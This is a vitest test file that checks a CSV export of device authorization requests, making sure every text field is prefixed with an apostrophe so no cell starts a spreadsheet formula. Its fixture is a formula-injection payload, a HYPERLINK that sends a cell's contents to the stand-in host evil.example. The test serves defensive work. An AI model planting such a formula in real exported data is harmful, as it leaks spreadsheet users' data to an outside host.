import { describe, expect, it } from 'vitest';
import type { AuthorizationRequest } from '../../../../shared/contract/index.ts';
import { toCsv } from '../../../lib/csv-export.ts';
import { requestCsvColumns } from './request-csv.ts';

const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Open")\nmore text';

describe('request CSV export', () => {
  it('neutralises a multi-line formula in every exported column', async () => {
    const request: AuthorizationRequest = {
      Id: 1,
      UserName: FORMULA,
      UserEmail: FORMULA,
      RequestGuid: FORMULA,
      DeviceType: FORMULA,
      CreatedTimestampUtc: FORMULA,
      ModifiedTimestampUtc: FORMULA,
      Manufacturer: FORMULA,
      Model: FORMULA,
      OsVersion: FORMULA,
      Status: 'Pending',
      Comment: FORMULA,
      DecidedBy: FORMULA,
      DecidedTimestampUtc: FORMULA,
    };
    const text = await toCsv([request], requestCsvColumns(undefined));
    const { parse } = await import('papaparse');
    const [header = [], row = []] = parse<string[]>(text, { newline: '\r\n' }).data;
    const cells = Object.fromEntries(header.map((name, i) => [name, row[i] ?? '']));
    // Every cell that came from the server's text starts with the apostrophe; none starts a formula.
    for (const [name, cell] of Object.entries(cells)) expect(cell, name).not.toMatch(/^[=+\-@\t\r]/);
    const fromText = Object.entries(cells).filter(([, cell]) => cell.includes('HYPERLINK'));
    expect(fromText.map(([name]) => name).sort()).toEqual(
      [
        'UserName',
        'UserEmail',
        'RequestGuid',
        'DeviceType',
        'Manufacturer',
        'Model',
        'OsVersion',
        'Created (UTC)',
        'Modified (UTC)',
        'DecidedBy',
        'Decided (UTC)',
        'Comment',
      ].sort(),
    );
    for (const [, cell] of fromText) expect(cell).toBe(`'${FORMULA}`);
  });
});
